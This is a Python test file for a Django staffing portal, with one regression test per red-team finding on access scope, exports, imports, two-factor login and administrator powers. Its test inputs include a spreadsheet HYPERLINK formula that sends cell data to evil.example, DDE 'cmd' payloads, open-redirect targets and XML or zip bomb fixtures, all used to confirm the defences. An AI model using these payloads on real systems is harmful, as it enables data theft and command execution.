"""The second red-team round (issue 14): one test per finding, named after it. Each failed on the code the red team
attacked and passes now. The attacks run as the demo accounts would, beside a second district that Dongli's
accounts must never reach."""

import datetime
import io
import re
import tracemalloc

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import AccountRequest, Role, User
from audit.models import AuditEvent
from contracts.models import Contractor, ContractorStaff
from core.masking import mask_id, mask_phone
from staffing.models import SocialWorker, Volunteer
from stations.models import Station
from tests.security.conftest import SecondDistrict, admin_form_data, no_formula_cells

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("story_day")]
PASSWORD = "dongli-demo-2021"


# --- One district's bureau can open another district to anyone ----------------------------------------------------


def test_finding_one_districts_bureau_cannot_open_another_district_to_anyone(
    client_as, demo_users, second: SecondDistrict
):
    """The Dongli bureau edits the staff of a contractor that works only in the second district: it sees none of
    that district's links, its picker offers none of the accounts it may not place, it cannot link an account for
    the other district, and an account it links for Dongli opens nothing of the other district."""
    bureau = client_as("bureau")
    url = reverse("admin:contracts_contractor_change", args=[second.contractor.pk])
    page = bureau.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    # The other district's link and every account the bureau may not place are absent from the page.
    for username in (
        "bureau",
        "auditor",
        "admin",
        "municipal",
        "zhangguizhuang",
        "org-a",
        "org-b",
        "bureau2",
    ):
        assert f">{username}<" not in html and f"（{username}）<" not in html, username
    assert second.org_user.username not in html
    assert "spare-org" in html  # an unattached contractor account is offered

    # Linking an account for the other district is refused (not a choice); for Dongli it is allowed.
    data = admin_form_data(html)
    data.update(
        {
            "memberships-TOTAL_FORMS": "1",
            "memberships-0-district": str(second.district.pk),
            "memberships-0-user": str(second.spare.pk),
        }
    )
    refused = bureau.post(url, data)
    assert refused.status_code == 200 and not ContractorStaff.objects.filter(user=second.spare).exists()
    data["memberships-0-district"] = str(second.dongli.pk)
    assert bureau.post(url, data).status_code == 302
    assert ContractorStaff.objects.filter(user=second.spare, district=second.dongli).exists()
    # Even an account of another organisation cannot be placed (one person, one organisation).
    data["memberships-0-user"] = str(demo_users["org-a"].pk)
    data["memberships-TOTAL_FORMS"] = "1"
    bureau.post(url, data)
    assert not ContractorStaff.objects.filter(contractor=second.contractor, user=demo_users["org-a"]).exists()

    # The account the Dongli bureau linked opens nothing of the second district: stations, workers, their numbers.
    spare = Client()
    spare.force_login(second.spare)
    assert spare.get(reverse("station-detail", args=[second.station.pk])).status_code == 404
    assert spare.get(reverse("worker-detail", args=[second.worker.pk]) + "?reveal=1").status_code == 404
    workers = spare.get(reverse("worker-list")).content.decode()
    assert second.worker.name not in workers
    assert not SocialWorker.objects.visible_to(second.spare).exists()
    assert not AuditEvent.objects.filter(action="unmask", username=second.spare.username).exists()


def test_finding_the_account_pickers_offer_only_accounts_the_bureau_may_place(client_as, demo_users):
    bureau = client_as("bureau")
    dongli = Station.objects.first().street.district
    html = bureau.get(reverse("admin:stations_district_change", args=[dongli.pk])).content.decode()
    for username in ("auditor", "admin", "municipal", "zhangguizhuang", "org-a"):
        assert f">{username}<" not in html, username
    street = Station.objects.get(street__name="张贵庄街道").street
    html = bureau.get(reverse("admin:stations_street_change", args=[street.pk])).content.decode()
    for username in ("auditor", "admin", "municipal", "bureau", "org-a", "fengniancun"):
        assert f">{username}<" not in html, username


# --- Live formulas in Excel ------------------------------------------------------------------------------------------

HOSTILE_FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'


def test_finding_a_failed_login_name_is_no_live_formula_in_the_audit_log_export(client, client_as):
    client.post(reverse("login"), {"username": HOSTILE_FORMULA, "password": "x"})
    response = client_as("auditor").get(reverse("audit-log") + "?export=xlsx")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert no_formula_cells(book)
    assert any(cell.value == HOSTILE_FORMULA for row in book.active.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("url_name", "username"),
    [
        ("volunteer-list", "bureau"),
        ("volunteer-list", "org-a"),
        ("worker-list", "bureau"),
        ("service-record-list", "bureau"),
        ("report-list", "bureau"),
        ("station-list", "bureau"),
        ("finding-list", "bureau"),
        ("export-rollout-xlsx", "bureau"),
        ("export-rollout-xlsx", "municipal"),
    ],
)
def test_finding_a_volunteers_name_is_no_live_formula_in_any_export(client_as, url_name, username):
    """Text from users in every exporter — names, titles, stations — is written as text, never as a formula."""
    station = Station.objects.get(street__name="张贵庄街道")
    Volunteer.objects.filter(station=station).update(name=HOSTILE_FORMULA, team="+cmd|' /C calc'!A0")
    SocialWorker.objects.filter(postings__cycle__station=station).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Station.objects.filter(pk=station.pk).update(name="-2+3+cmd|' /C calc'!A0")
    from reports.models import ServiceRecord

    ServiceRecord.objects.filter(station=station).update(title="\t=1+1")
    url = reverse(url_name) + ("" if url_name.startswith("export-") else "?export=xlsx")
    response = client_as(username).get(url)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert no_formula_cells(book)


# --- Imports sink the server -------------------------------------------------------------------------------------


def _import(client, content: bytes, name: str = "花名册.xlsx"):
    return client.post(reverse("import", args=["roster"]), {"file": SimpleUploadedFile(name, content)})


def test_finding_a_sheet_declaring_16384_columns_is_read_in_bounded_memory(client_as, attack_files):
    before = SocialWorker.objects.count()
    tracemalloc.start()
    response = _import(client_as("org-a"), attack_files["wide"])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert response.status_code == 200 and peak < 150 * 1024 * 1024, peak
    assert SocialWorker.objects.count() == before
    response = _import(client_as("org-a"), attack_files["wide_content"])
    assert "超过60列的上限" in response.content.decode()


def test_finding_a_compressed_sheet_that_unpacks_huge_is_refused_before_it_is_read(client_as, attack_files):
    response = _import(client_as("org-a"), attack_files["unpacks_huge"])
    assert response.status_code == 200 and "疑似压缩炸弹" in response.content.decode()


def test_finding_a_sheet_with_a_million_rows_is_refused_by_its_row_limit(client_as, attack_files):
    response = _import(client_as("org-a"), attack_files["tall"])
    assert response.status_code == 200 and "行数据的上限" in response.content.decode()


@pytest.mark.parametrize("attack", ["billion_laughs", "xxe"])
def test_finding_malformed_xml_answers_with_a_clear_chinese_error_not_500(client_as, attack_files, attack):
    client = client_as("org-a")
    client.raise_request_exception = False
    response = _import(client, attack_files[attack])
    assert response.status_code == 200 and "不允许的XML声明" in response.content.decode()


def test_finding_broken_xml_answers_with_a_clear_chinese_error_not_500(client_as, attack_files):
    client = client_as("org-a")
    client.raise_request_exception = False
    response = _import(client, attack_files["broken_xml"])
    assert response.status_code == 200 and "无法读取该Excel文件" in response.content.decode()


def test_finding_the_zip_bomb_check_measures_the_real_unpacked_size_not_the_declared_one(attack_files):
    """An Office attachment whose archive declares 1,000 bytes for a member that really unpacks to megabytes was
    accepted by a check that summed the declared sizes; it is now decompressed and refused (an archive that lies
    about its sizes is no Office file), whether it unpacks to 5 MB or 250 MB."""
    from core.uploads import check_upload

    upload = SimpleUploadedFile("plan.docx", attack_files["lying_docx"])
    with pytest.raises(Exception, match=r"不是允许的类型|压缩炸弹"):
        check_upload(
            upload, allowed={"application/vnd.openxmlformats-officedocument.wordprocessingml.document"}
        )
    with pytest.raises(Exception, match=r"不是允许的类型|压缩炸弹"):
        check_upload(
            SimpleUploadedFile("plan.docx", attack_files["docx_bomb"]),
            allowed={"application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
        )


# --- Full ID numbers and phones without an audit event --------------------------------------------------------------


def test_finding_admin_pages_and_history_show_no_full_id_number_or_phone(client_as):
    worker = SocialWorker.objects.filter(postings__cycle__station__street__name="张贵庄街道").first()
    number, phone = worker.id_number, worker.phone
    bureau = client_as("bureau")
    # Changes, so that the histories have something to show.
    SocialWorker.objects.filter(pk=worker.pk).update(phone="13900001111")
    worker.refresh_from_db()
    worker.phone = "13900002222"
    worker.save()
    pages = [
        reverse("admin:staffing_socialworker_change", args=[worker.pk]),
        reverse("admin:staffing_socialworker_history", args=[worker.pk]),
        reverse("record-history", args=["staffing.socialworker", worker.pk]),
    ]
    history_id = worker.history.order_by("history_id").first().history_id
    pages.append(reverse("admin:staffing_socialworker_simple_history", args=[worker.pk, history_id]))
    volunteer = Volunteer.objects.filter(station__street__name="张贵庄街道").first()
    pages.append(reverse("admin:staffing_volunteer_change", args=[volunteer.pk]))
    for url in pages:
        response = bureau.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        for secret in (number, phone, "13900002222", "13900001111", volunteer.phone):
            assert secret not in html, (url, secret)
    assert mask_id(number) in bureau.get(pages[0]).content.decode()
    # The history version cannot be posted back (a revert would write around the services).
    assert bureau.post(pages[3], {}).status_code == 405


# --- The system administrator gets around 三权分立 --------------------------------------------------------------------


def test_finding_the_administrator_cannot_create_an_auditor_without_a_second_person(client_as, demo_users):
    admin = client_as("admin")
    response = admin.post(
        reverse("admin:accounts_user_add"),
        {"username": "new-auditor", "role": "auditor", "last_name": "审", "first_name": "计"},
    )
    assert response.status_code == 302
    created = User.objects.get(username="new-auditor")
    assert not created.is_active and not created.has_usable_password()
    asked = AccountRequest.objects.get(user=created, status="pending")
    # Not the administrator, not an auditor: the bureau approves an auditor (APPROVER_ROLE).
    admin.post(reverse("account-requests"), {"request": asked.pk, "decision": "approve"})
    asked.refresh_from_db()
    assert asked.status == "pending"
    assert client_as("auditor").get(reverse("account-requests")).status_code == 200
    response = client_as("bureau").post(
        reverse("account-requests"), {"request": asked.pk, "decision": "approve"}
    )
    password = re.search(r'font-monospace">([^<]+)<', response.content.decode())[1]
    created.refresh_from_db()
    assert created.is_active and created.must_change_password and created.check_password(password)
    actions = set(AuditEvent.objects.filter(object_id=str(created.pk)).values_list("action", flat=True))
    assert {"account_request", "account_approve"} <= actions


def test_finding_the_administrator_cannot_change_any_accounts_role_its_own_included(client_as, demo_users):
    admin = client_as("admin")
    me = demo_users["admin"]
    data = {"username": "admin", "role": "auditor", "is_active": "on", "last_name": "", "first_name": ""}
    response = admin.post(reverse("admin:accounts_user_change", args=[me.pk]), data)
    assert response.status_code == 200 and "不能修改本人账号的角色" in response.content.decode()
    me.refresh_from_db()
    assert me.role == Role.ADMIN
    street = demo_users["zhangguizhuang"]
    admin.post(
        reverse("admin:accounts_user_change", args=[street.pk]),
        {"username": street.username, "role": "bureau", "is_active": "on", "last_name": "", "first_name": ""},
    )
    street.refresh_from_db()
    assert street.role == Role.STREET  # waits for the auditor's approval
    assert AccountRequest.objects.filter(user=street, role="bureau", status="pending").exists()


def test_finding_the_administrator_cannot_reset_the_bureaus_password_and_read_case_data(
    client_as, demo_users
):
    admin = client_as("admin")
    bureau = demo_users["bureau"]
    changelist = reverse("admin:accounts_user_changelist")
    response = admin.post(
        changelist, {"action": "reset_password", "_selected_action": [bureau.pk]}, follow=True
    )
    assert "已提交安全审计员审批" in response.content.decode()
    bureau.refresh_from_db()
    assert bureau.check_password(PASSWORD)  # nothing changed yet
    # The admin's own "set a password" page is closed: nobody chooses another person's password.
    assert admin.get(reverse("admin:auth_user_password_change", args=[bureau.pk])).status_code == 403
    # A street account's reset: a temporary password the owner must replace at the next login.
    street = demo_users["zhangguizhuang"]
    response = admin.post(
        changelist, {"action": "reset_password", "_selected_action": [street.pk]}, follow=True
    )
    password = re.search(r"临时密码：(\S+?)（", response.content.decode())[1]
    owner = Client()
    owner.post(reverse("login"), {"username": "zhangguizhuang", "password": password})
    assert owner.get(reverse("station-list"))["Location"] == reverse("password-change")
    assert AuditEvent.objects.filter(action="password_reset", object_id=str(street.pk)).exists()


# --- The municipal bureau sees personal data ----------------------------------------------------------------------


def test_finding_the_municipal_bureau_sees_counts_and_qualifications_not_names(client_as):
    names = set(SocialWorker.objects.filter(postings__isnull=False).values_list("name", flat=True).distinct())
    municipal = client_as("municipal")
    response = municipal.get(reverse("export-rollout-xlsx"))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = {str(c.value) for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value}
    assert not any(name in cell for cell in cells for name in names)
    assert "驻站社工人数与资质" in book.sheetnames
    pages = [reverse("finding-list")] + [
        reverse("station-detail", args=[pk]) for pk in Station.objects.values_list("pk", flat=True)
    ]
    for url in pages:
        html = municipal.get(url).content.decode()
        assert not any(name in html for name in names), url
    dossier = municipal.get(
        reverse("export-dossier-pdf", args=[Station.objects.get(street__name="金桥街道").pk])
    )
    text = _pdf_text(b"".join(dossier.streaming_content))
    assert "在岗驻站社工" in text and not any(name in text for name in names)


def _pdf_text(content: bytes) -> str:
    import subprocess

    return subprocess.run(
        ["pdftotext", "-", "-"], input=content, capture_output=True, check=True
    ).stdout.decode()


# --- Two-factor -------------------------------------------------------------------------------------------------------


def test_finding_a_password_alone_cannot_enrol_an_authenticator(client, settings, demo_users):
    settings.OTP_REQUIRED_ROLES = {"bureau"}
    client.post(reverse("login"), {"username": "bureau", "password": PASSWORD})
    page = client.get(reverse("two-factor-setup")).content.decode()
    assert "启用码" in page and "密钥" not in page
    response = client.post(reverse("two-factor-setup"), {"code": "AAAA-BBBB-CCCC"})
    assert "启用码不正确" in response.content.decode()
    from django_otp.plugins.otp_totp.models import TOTPDevice

    assert not TOTPDevice.objects.filter(user=demo_users["bureau"]).exists()


def test_finding_the_password_change_page_waits_for_the_second_factor(client, settings):
    settings.OTP_REQUIRED_ROLES = {"bureau"}
    client.post(reverse("login"), {"username": "bureau", "password": PASSWORD})
    response = client.get(reverse("password-change"))
    assert response.status_code == 302 and response["Location"] == reverse("two-factor-setup")


def test_finding_the_verify_page_never_redirects_off_site(client, demo_users):
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from tests.test_security import totp_now

    device = TOTPDevice.objects.create(user=demo_users["org-a"], name="p", confirmed=True)
    client.post(reverse("login"), {"username": "org-a", "password": PASSWORD})
    for target in ("https://evil.example", "//evil.example", "/\\evil.example", "javascript:alert(1)"):
        device.refresh_from_db()
        device.last_t = -1
        device.save()
        device.throttle_reset()
        response = client.post(reverse("two-factor-verify") + "?next=" + target, {"token": totp_now(device)})
        assert response.status_code == 302 and response["Location"] == reverse("home"), target


# --- Encryption keys --------------------------------------------------------------------------------------------------


def test_finding_rotating_the_encryption_key_keeps_one_record_per_person(settings, demo_users):
    from cryptography.fernet import Fernet
    from django.core.management import call_command

    from core.crypto import _fernet, under_primary_key
    from staffing.services import worker_register

    worker = SocialWorker.objects.filter(contractor__memberships__user=demo_users["org-a"]).first()
    number = worker.id_number
    old = list(settings.FIELD_ENCRYPTION_KEYS)
    new = Fernet.generate_key().decode()
    settings.FIELD_ENCRYPTION_KEYS = [new, *old]
    _fernet.cache_clear()
    with pytest.raises(Exception, match="已登记过此身份证号"):
        worker_register(
            actor=demo_users["org-a"],
            contractor=worker.contractor,
            name="同一人",
            gender=worker.gender,
            id_number=number,
            phone="13800000000",
            employed_on=datetime.date(2026, 1, 1),
        )
    out = io.StringIO()
    call_command("rotate_field_keys", "--batch", "7", stdout=out)
    assert "全部个人信息已使用新密钥加密" in out.getvalue()
    settings.FIELD_ENCRYPTION_KEYS = [new]  # the old key removed
    _fernet.cache_clear()
    assert SocialWorker.objects.get(pk=worker.pk).id_number == number
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SELECT id_number FROM staffing_historicalsocialworker")
        assert all(under_primary_key(token) for (token,) in cursor.fetchall() if token)
    settings.FIELD_ENCRYPTION_KEYS = old
    _fernet.cache_clear()


# --- About 30 distinct HTTP 500s ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/staffing/workers/?station=²",
        "/staffing/workers/?station=" + "9" * 40,
        "/staffing/volunteers/?station=٣",
        "/staffing/volunteers/?station=" + "9" * 25,
        "/service-records/?station=¹²",
        "/service-records/?month=0000-01",
        "/service-records/?month=9999-99",
        "/stations/?year=" + "9" * 60,
        "/stations/?year=1e400",
        "/audit/?start=0000-01-01",
        "/staffing/workers/?q=%00",
        "/service-records/?q=a%00b",
    ],
)
def test_finding_a_filter_value_answers_without_500(client_as, path):
    username = "auditor" if path.startswith("/audit/") else "bureau"
    client = client_as(username)
    client.raise_request_exception = False
    assert client.get(path).status_code == 200, path


def test_finding_huge_report_figures_are_refused_not_saved(client_as):
    from reports.models import Report
    from tests.portal.test_reports import form_data

    brief = Report.objects.get(contract_year__station__street__name="丰年村街道", status="returned")
    client = client_as("org-b")
    client.raise_request_exception = False
    data = form_data(brief, action="save")
    figure = next(k for k in data if k.startswith("fig_") and k.endswith("_people"))
    for value in ("9" * 30, "²", "٣"):
        response = client.post(
            reverse("report-edit", args=[brief.pk]), {**data, figure: value, "people_served": value}
        )
        assert response.status_code == 200, value
    brief.refresh_from_db()
    assert brief.people_served < 10**9


def test_finding_the_history_page_of_a_record_whose_staff_changed_answers(client_as, demo_users):
    from tests.factories import UserFactory

    dongli = Station.objects.first().street.district
    dongli.staff.add(UserFactory(username="new-bureau-officer", role="bureau"))
    street = Station.objects.get(street__name="张贵庄街道").street
    street.staff.remove(demo_users["zhangguizhuang"])
    street.staff.add(demo_users["zhangguizhuang"])
    bureau = client_as("bureau")
    for label, pk in (("stations.district", dongli.pk), ("stations.street", street.pk)):
        response = bureau.get(reverse("record-history", args=[label, pk]))
        assert response.status_code == 200, label


# --- Lower ---------------------------------------------------------------------------------------------------------


def test_finding_a_volunteers_link_comes_back_after_deactivate_and_reactivate(client_as):
    from staffing.volunteer_views import self_report_token

    volunteer = Volunteer.objects.filter(station__street__name="张贵庄街道", active=True).first()
    old = reverse("volunteer-self-report", args=[self_report_token(volunteer)])
    assert Client().get(old).status_code == 200
    org = client_as("org-a")
    org.post(reverse("volunteer-active", args=[volunteer.pk]), {"active": "0"})
    org.post(reverse("volunteer-active", args=[volunteer.pk]), {"active": "1"})
    assert Client().get(old).status_code == 404
    volunteer.refresh_from_db()
    second = reverse("volunteer-self-report", args=[self_report_token(volunteer)])
    assert Client().get(second).status_code == 200
    org.post(reverse("volunteer-link-renew", args=[volunteer.pk]))
    assert Client().get(second).status_code == 404


def test_finding_anyone_can_lock_any_account_for_30_minutes_by_typing_its_name(client, story_day):
    attacker = Client(REMOTE_ADDR="10.9.9.9")
    for _ in range(8):
        attacker.post(reverse("login"), {"username": "zhangguizhuang", "password": "Wrong-pass-1"})
        story_day.shift(datetime.timedelta(seconds=5))
    # The owner, at the office's address, waits at most a minute — not 30 — and is in.
    story_day.shift(datetime.timedelta(seconds=61))
    owner = Client(REMOTE_ADDR="10.1.1.1")
    owner.post(reverse("login"), {"username": "zhangguizhuang", "password": PASSWORD})
    assert owner.get(reverse("rules")).status_code == 200
    # The attacker's own address is locked for the name.
    story_day.shift(datetime.timedelta(seconds=61))
    refused = attacker.post(reverse("login"), {"username": "zhangguizhuang", "password": PASSWORD})
    assert refused.status_code in (403, 429)


@pytest.mark.parametrize(
    ("value", "masker", "shown"),
    [
        ("12345678", mask_id, "1******8"),
        ("1234567", mask_id, "*******"),
        ("120110199001011234", mask_id, "120110********1234"),
        ("1380013", mask_phone, "*******"),
        ("022-2439123", mask_phone, "022****9123"),
        ("13800138000", mask_phone, "138****8000"),
        ("123", mask_phone, "***"),
    ],
)
def test_finding_masking_shows_short_values_in_full(value, masker, shown):
    assert masker(value) == shown


@pytest.mark.django_db(transaction=True)
def test_finding_restore_deletes_the_uploads_before_checking_the_row_counts(tmp_path, uploads_in_tmp):
    import json

    from django.core.files.base import ContentFile
    from django.core.management import call_command
    from django.core.management.base import CommandError

    from core.backups import _row_counts
    from reports.models import Report, ReportAttachment
    from tests.conftest import seed_demo_once

    seed_demo_once()
    ReportAttachment.objects.create(
        report=Report.objects.first(),
        file=ContentFile(b"%PDF-1.4 keep", name="k.pdf"),
        original_name="保留.pdf",
        content_type="application/pdf",
        size=13,
        sha256=ReportAttachment.checksum(b"%PDF-1.4 keep"),
    )
    target = tmp_path / "backup"
    call_command("backup", "-o", str(target), stdout=io.StringIO())
    manifest = json.loads((target / "manifest.json").read_text())
    manifest["rows"]["reports_report"] += 1  # a manifest that does not describe its database
    (target / "manifest.json").write_text(json.dumps(manifest))
    files = sorted(p.read_bytes() for p in uploads_in_tmp.rglob("*") if p.is_file())
    rows = _row_counts()
    with pytest.raises(CommandError, match="未做任何恢复"):
        call_command("restore", str(target), stdout=io.StringIO())
    assert sorted(p.read_bytes() for p in uploads_in_tmp.rglob("*") if p.is_file()) == files
    assert _row_counts() == rows


def test_finding_without_the_font_every_pdf_answered_500(client_as, settings, tmp_path):
    from pathlib import Path

    settings.FONT_DIR = tmp_path / "no-fonts"
    client = client_as("bureau")
    client.raise_request_exception = False
    response = client.get(reverse("export-rollout-pdf"))
    assert response.status_code == 503 and "make fonts" in response.content.decode()
    makefile = (Path(__file__).resolve().parents[2] / "Makefile").read_text()
    assert re.search(r"^install: .*\bfonts\b", makefile, re.M)


def test_contractor_register_is_shared_and_staff_lists_are_per_district(second: SecondDistrict):
    """README's decision: one register of contractors for every district; who works for one is per district."""
    assert Contractor.objects.visible_to(second.bureau2).filter(pk=second.contractor.pk).exists()
    assert not ContractorStaff.objects.visible_to(second.bureau2).filter(district=second.dongli).exists()


# --- Found again by the independent check (helper red team, same round) --------------------------------------------


def test_finding_the_admins_history_pages_ignore_the_users_scope(client, second):
    """simple-history's pages read the history table directly: a bureau could walk another district's records."""
    worker = SocialWorker.objects.filter(postings__cycle__station__street__name="张贵庄街道").first()
    history_id = worker.history.first().history_id
    client.force_login(second.bureau2)
    for url in (
        reverse("admin:staffing_socialworker_history", args=[worker.pk]),
        reverse("admin:staffing_socialworker_simple_history", args=[worker.pk, history_id]),
    ):
        response = client.get(url)
        assert response.status_code == 404 and worker.name not in response.content.decode(), url


def test_finding_admin_pickers_offer_every_account_as_who_verified_or_reviewed(client_as, demo_users):
    from staffing.models import VolunteerHours
    from tests.security.conftest import admin_form_data

    entry = VolunteerHours.objects.filter(
        volunteer__station__street__name="无瑕街道", status="verified"
    ).first()
    url = reverse("admin:staffing_volunteerhours_change", args=[entry.pk])
    bureau = client_as("bureau")
    html = bureau.get(url).content.decode()
    assert 'name="verified_by"' not in html and 'name="entered_by"' not in html
    assert ">auditor<" not in html and "（auditor）" not in html
    data = admin_form_data(html)
    data["verified_by"] = str(demo_users["auditor"].pk)
    bureau.post(url, data)
    entry.refresh_from_db()
    assert entry.verified_by_id != demo_users["auditor"].pk


@pytest.mark.parametrize("attack", ["styles", "strings", "one_row"])
def test_finding_a_small_sheet_declaring_millions_of_styles_strings_or_cells_is_refused_before_parsing(
    client_as, structure_bombs, attack
):
    import time

    started = time.monotonic()
    response = _import(client_as("org-a"), structure_bombs[attack])
    assert response.status_code == 200 and "数量异常庞大" in response.content.decode()
    assert time.monotonic() - started < 15


def test_finding_imported_dates_in_year_one_are_refused(client_as):
    content = (
        "姓名,性别,身份证号,手机号码,入职日期\n远古乙,男,120110199001011235,13812345678,0001-01-01\n".encode()
    )
    response = _import(client_as("org-a"), content, "roster.csv")
    assert "不在1900年至2100年之间" in response.content.decode()


def test_finding_previews_leave_their_files_behind(client_as, settings):
    import os
    import time

    from documents.import_views import pending_dir

    content = (
        "姓名,性别,身份证号,手机号码,入职日期\n新人,男,120110199001011235,13812345678,2026-01-05\n".encode()
    )
    org = client_as("org-a")
    _import(org, content, "a.csv")
    first = set(pending_dir().iterdir())
    assert len(first) == 1
    stale = pending_dir() / "stale-token"
    stale.write_bytes(b"x")
    old = time.time() - 25 * 3600
    os.utime(stale, (old, old))
    _import(org, content, "b.csv")
    left = set(pending_dir().iterdir())
    assert len(left) == 1 and not (left & first) and not stale.exists()


def test_finding_an_oversized_upload_is_received_in_full_before_it_is_refused(client_as, settings):
    response = client_as("org-a").post(
        reverse("import", args=["roster"]),
        data=b"x",
        content_type="text/plain",
        CONTENT_LENGTH=str(30 * 1024 * 1024),
    )
    assert response.status_code == 413 and "未予接收" in response.content.decode()


def test_finding_demote_reset_and_grant_again_leaves_the_admin_holding_a_privileged_account(
    client_as, demo_users
):
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from accounts.services import account_change, account_request_decide, password_reset

    admin, bureau = demo_users["admin"], demo_users["bureau"]
    account_change(user=bureau, role="street", is_active=True, actor=admin)
    known = password_reset(user=User.objects.get(pk=bureau.pk), actor=admin)
    TOTPDevice.objects.create(user=bureau, name="the admin's phone", confirmed=True)
    account_change(user=User.objects.get(pk=bureau.pk), role="bureau", is_active=True, actor=admin)
    asked = AccountRequest.objects.get(user=bureau, status="pending")
    issued = account_request_decide(request_row=asked, approve=True, actor=demo_users["auditor"])
    bureau.refresh_from_db()
    assert (
        bureau.role == "bureau"
        and issued
        and not bureau.check_password(known)
        and bureau.check_password(issued)
    )
    assert not TOTPDevice.objects.filter(user=bureau).exists()


def test_finding_a_role_change_did_not_end_the_accounts_sessions(client_as, demo_users):
    street = demo_users["zhangguizhuang"]
    session = Client()
    session.force_login(street)
    assert session.get(reverse("rules")).status_code == 200
    client_as("admin").post(
        reverse("admin:accounts_user_change", args=[street.pk]),
        {
            "username": street.username,
            "role": "contractor",
            "is_active": "on",
            "last_name": "",
            "first_name": "",
        },
    )
    assert session.get(reverse("rules")).status_code == 302


@pytest.mark.parametrize(
    ("username", "path"),
    [
        ("bureau", "/admin/stations/station/?street=9223372036854775808"),
        ("bureau", "/admin/stations/station/?street__district=" + "9" * 30),
        ("bureau", "/admin/stations/siteconditionlog/?logged_on__year=9999"),
        ("bureau", "/admin/stations/siteconditionlog/?logged_on__year=9999&logged_on__month=12"),
        ("bureau", "/admin/reports/report/?due_date__year=99999999999999999999"),
        ("bureau", "/admin/contracts/procurement/?station=²"),
        ("admin", "/admin/accounts/accountrequest/?user=9223372036854775808"),
        ("admin", "/admin/accounts/enrolmentcode/?user=9223372036854775808"),
        ("admin", "/admin/core/policyparameter/?changed_by=9223372036854775808"),
    ],
)
def test_finding_admin_filters_and_date_drill_downs_answered_500(client_as, username, path):
    client = client_as(username)
    client.raise_request_exception = False
    assert client.get(path).status_code in (200, 302), path


def test_finding_admin_date_times_and_many_to_many_ids_answered_500(client_as):
    from stations.models import District

    client = client_as("bureau")
    client.raise_request_exception = False
    dongli = District.objects.get(code="120110")
    url = reverse("admin:stations_district_change", args=[dongli.pk])
    from tests.security.conftest import admin_form_data

    data = admin_form_data(client.get(url).content.decode())
    data["staff"] = ["1", "9" * 30]
    assert client.post(url, data).status_code == 200
    plan = dongli.annual_plans.first()
    url = reverse("admin:stations_annualplan_change", args=[plan.pk])
    data = admin_form_data(client.get(url).content.decode())
    data.update({"submitted_at_0": "0001-01-01", "submitted_at_1": "00:00", "year": "0"})
    # The annual plan is the policy's (R-PLAN-3): shown in the admin, never written there — a refusal, not a 500.
    assert client.post(url, data).status_code == 403
    plan.refresh_from_db()
    assert plan.year >= 2000
    url = reverse("admin:staffing_socialworker_change", args=[dongli.social_workers.first().pk])
    data = admin_form_data(client.get(url).content.decode())
    data.update({"left_on": "0001-01-01", "education": "本科"})
    assert client.post(url, data).status_code in (200, 302)


def test_finding_volunteer_verification_ids_answered_500(client_as):
    client = client_as("org-a")
    client.raise_request_exception = False
    for value in ("²", "⑤", "9223372036854775808"):
        response = client.post(reverse("volunteer-hours-verify"), {"entry": value, "decision": "verify"})
        assert response.status_code < 500, value
